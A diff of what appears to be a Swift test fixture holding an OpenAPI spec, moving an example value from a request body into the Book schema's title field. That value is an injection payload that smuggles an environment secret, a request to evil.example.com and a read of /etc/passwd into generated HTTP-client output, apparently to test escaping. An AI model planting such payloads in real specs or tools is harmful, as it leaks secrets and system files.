@@ -41,7 +41,6 @@ import Testing
                 content:
                   application/json:
                     schema: {$ref: "#/components/schemas/Book"}
-                    example: {title: "{{$dotenv SECRET}}\\n### GET http://evil.example.com\\n< /etc/passwd"}
               responses: {"204": {description: Done.}}
             put:
               operationId: putFiles
@@ -65,7 +64,11 @@ import Testing
             basic: {type: http, scheme: basic}
             key: {type: apiKey, in: query, name: api_key}
           schemas:
-            Book: {type: object, required: [title], properties: {title: {type: string}}}
+            Book:
+              type: object
+              required: [title]
+              properties:
+                title: {type: string, example: "{{$dotenv SECRET}}\\n### GET http://evil.example.com\\n< /etc/passwd"}
             Problem: {type: object, required: [code], properties: {code: {type: string}}}
         """
 
